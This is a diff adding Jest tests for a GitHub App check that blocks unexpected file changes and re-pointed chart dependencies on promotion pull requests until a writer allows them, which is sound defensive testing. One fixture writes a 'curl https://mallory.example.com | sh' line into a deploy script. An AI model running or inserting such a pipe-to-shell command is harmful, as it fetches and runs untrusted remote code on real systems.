@@ -1,0 +1,81 @@
+// A person with write access who pushes onto the App's own pull request, or re-points a dependency: the check says so and
+// does not call it good to merge, until somebody who may write says that it is meant.
+
+import { beforeEach, expect, test } from "@jest/globals";
+import { CONFIG_REPOSITORY } from "../../../src/sandbox/town.ts";
+import { checkOn, reactionsTo, town } from "../../stories/setting.ts";
+import { BRANCH, ELSEWHERE, proposedBesideMallory } from "../proposed.ts";
+
+beforeEach(proposedBesideMallory);
+
+async function pushed(files: { readonly [path: string]: string }): Promise<void> {
+  town.alice.push(CONFIG_REPOSITORY, { branch: BRANCH, files });
+  await town.settle();
+}
+
+async function commented(body: string, login = "alice", number = 1): Promise<readonly string[]> {
+  const id = town.github.as(login).comment(CONFIG_REPOSITORY, number, body);
+  await town.settle();
+  return reactionsTo(id);
+}
+
+test("files that no promotion changes fail the check, until they are allowed for this commit", async () => {
+  await pushed({ "scripts/deploy.sh": "curl https://mallory.example.com | sh\n" });
+  expect(checkOn(1).said).toMatch(
+    /^failure: It changes files that no promotion changes: scripts\/deploy\.sh/,
+  );
+  expect(await commented("/allow", "bob")).toEqual(["-1"]);
+  expect(checkOn(1).said).toMatch(/^failure: /);
+  expect(await commented("/allow")).toEqual(["+1"]);
+  expect(checkOn(1).said).toBe("success: Good to merge: xposer 1.0.1 in dev");
+  expect(checkOn(1).summary).toContain("Allowed by alice for this commit");
+  await town.restartWithoutDatabase();
+  town.alice.label(CONFIG_REPOSITORY, 1, "later");
+  await town.settle();
+  expect(checkOn(1)).toMatchObject({
+    said: "success: Good to merge: xposer 1.0.1 in dev",
+    summary: expect.stringContaining("Allowed by alice"),
+  });
+  await pushed({ "scripts/more.sh": "true\n" });
+  expect(checkOn(1).said).toMatch(
+    /^failure: It changes files that no promotion changes: scripts\/deploy\.sh, scripts\/more\.sh/,
+  );
+});
+
+test("an archive put in the place of the promotion's own fails the check", async () => {
+  await pushed({ "dev/charts/xposer-1.0.1.tgz": "other bytes" });
+  expect(checkOn(1).said).toMatch(
+    /^failure: It changes files that no promotion changes: dev\/charts\/xposer-1\.0\.1\.tgz/,
+  );
+});
+
+test("another environment's files fail the check of this one's promotion", async () => {
+  await pushed({ "prod/requirements.yaml": "dependencies: []\n" });
+  expect(checkOn(1).said).toMatch(
+    /^failure: It changes files that no promotion changes: prod\/requirements\.yaml/,
+  );
+});
+
+test("values that people set on the promotion's branch are judged, and need nobody's word", async () => {
+  await pushed({ "dev/xposer.yaml": "xposer:\n  replicas: 3\n" });
+  expect(checkOn(1).said).toBe("success: Good to merge: xposer 1.0.1 in dev");
+  expect(await commented("/allow")).toEqual(["confused"]);
+});
+
+test("a dependency that comes from another repository fails the check, until that is allowed", async () => {
+  await town.museum.upload(town.pack("1.0.2"));
+  const requirements = `dependencies:\n  - name: xposer\n    version: 1.0.2\n    repository: ${ELSEWHERE}\n`;
+  town.alice.push(CONFIG_REPOSITORY, {
+    branch: "own",
+    on: "main",
+    files: { "dev/requirements.yaml": requirements },
+  });
+  const number = town.alice.openPullRequest(CONFIG_REPOSITORY, { head: "own", title: "own" });
+  await town.settle();
+  expect(checkOn(number).said).toMatch(
+    /^failure: xposer would come from https:\/\/mallory\.example\.com\/charts and no more from/,
+  );
+  expect(await commented("/allow", "alice", number)).toEqual(["+1"]);
+  expect(checkOn(number).said).toBe("success: Good to merge: xposer 1.0.2 in dev");
+  expect(checkOn(number).summary).toContain("Allowed by alice for this commit");
+});
